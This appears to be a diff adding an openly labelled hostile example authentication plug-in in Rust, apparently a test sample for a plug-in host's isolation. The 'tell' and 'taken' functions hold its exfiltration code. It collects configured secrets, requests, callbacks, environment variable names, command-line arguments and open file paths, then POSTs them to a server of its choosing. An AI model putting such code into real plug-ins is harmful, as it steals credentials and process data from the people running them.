@@ -1,0 +1,96 @@
+//! A plug-in that keeps everything it gets hold of, and tells it to a server of its choice.
+//!
+//! It tells apart what it was *given* (through the contract: settings, request, memo, callback) and what it *took*
+//! (whatever any code in the process can see: environment, command line, open files).
+
+#[path = "shared.rs"]
+mod shared;
+
+use std::ffi::OsString;
+use std::sync::{Mutex, PoisonError};
+
+use plugin_api::ui_schema::{JsonSchema, schemars};
+use plugin_api::{
+    AuthPlugin, AuthenticatorType, BeginReply, BeginRequest, Callback, Context, Fault, FaultKind, Finding, HttpRequest,
+    Identity, export_auth_plugin,
+};
+use serde::Deserialize;
+use serde_json::{Value, json};
+
+/// A plug-in may keep things between calls, although it should not: also those of other authenticators of its own.
+static GIVEN: Mutex<Vec<Value>> = Mutex::new(Vec::new());
+
+struct Spy;
+
+#[derive(Deserialize, JsonSchema)]
+struct Settings {
+    #[schemars(title = "Server", extend("format" = "uri", "x-role" = "upstream", "x-zh-CN" = { "title": "服务器" }))]
+    server: String,
+    #[schemars(title = "Secret", extend("writeOnly" = true, "x-zh-CN" = { "title": "密钥" }))]
+    #[expect(dead_code, reason = "told with all the settings")]
+    secret: String,
+}
+
+impl AuthPlugin for Spy {
+    const MANIFEST: &'static str = r#"{
+        "id": "example-spy", "version": "1.0.0", "api": "1.1",
+        "name": { "en": "Spy", "zh-CN": "窥探示例" },
+        "description": { "en": "Tells everything it gets hold of.", "zh-CN": "说出它得到的一切。" },
+        "borrows": { "redirect": ["elsewhere.example"], "cache": true },
+        "abilities": ["sign-in"]
+    }"#;
+
+    fn new() -> Self {
+        Self
+    }
+
+    fn authenticator_types(&self) -> Vec<AuthenticatorType> {
+        shared::one_type::<Settings>("spy")
+    }
+
+    async fn begin(&self, cx: &Context, request: BeginRequest) -> Result<BeginReply, Fault> {
+        keep(cx, "begin", json!(request))?;
+        let authorize_url = format!("https://elsewhere.example/authorize?state={}", request.state);
+        Ok(BeginReply { authorize_url, memo: b"the spy's own memo".to_vec() })
+    }
+
+    async fn finish(&self, cx: &Context, callback: Callback) -> Result<Identity, Fault> {
+        keep(cx, "finish", json!(callback))?;
+        tell(cx).await?;
+        Err(Fault::new(FaultKind::Denied, "it has seen enough"))
+    }
+
+    async fn check(&self, cx: &Context) -> Result<Vec<Finding>, Fault> {
+        keep(cx, "check", Value::Null)?;
+        Ok(Vec::new())
+    }
+}
+
+/// Remembers all that came with a call.
+fn keep(cx: &Context, call: &str, request: Value) -> Result<(), Fault> {
+    let settings: Value = cx.settings()?;
+    let given = json!({ "call": call, "settings": settings, "about": cx.about(), "request": request });
+    GIVEN.lock().unwrap_or_else(PoisonError::into_inner).push(given);
+    Ok(())
+}
+
+async fn tell(cx: &Context) -> Result<(), Fault> {
+    let Settings { server, .. } = cx.settings()?;
+    let given = GIVEN.lock().unwrap_or_else(PoisonError::into_inner).clone();
+    let found = json!({ "given": given, "taken": taken() });
+    let told = cx.http(HttpRequest::post_json(format!("{server}/found"), &found)).await;
+    told.map(drop).map_err(|fault| Fault::new(FaultKind::Unavailable, fault.detail))
+}
+
+/// What any code in this process can see.
+fn taken() -> Value {
+    let text = |text: OsString| text.to_string_lossy().into_owned();
+    let variables: Vec<String> = std::env::vars_os().map(|(name, _)| text(name)).collect();
+    let arguments: Vec<String> = std::env::args_os().map(text).collect();
+    let open = std::fs::read_dir("/proc/self/fd").into_iter().flatten().flatten();
+    let open: Vec<String> =
+        open.filter_map(|entry| std::fs::read_link(entry.path()).ok()).map(|path| text(path.into())).collect();
+    json!({ "variables": variables, "arguments": arguments, "open files": open })
+}
+
+export_auth_plugin!(Spy);
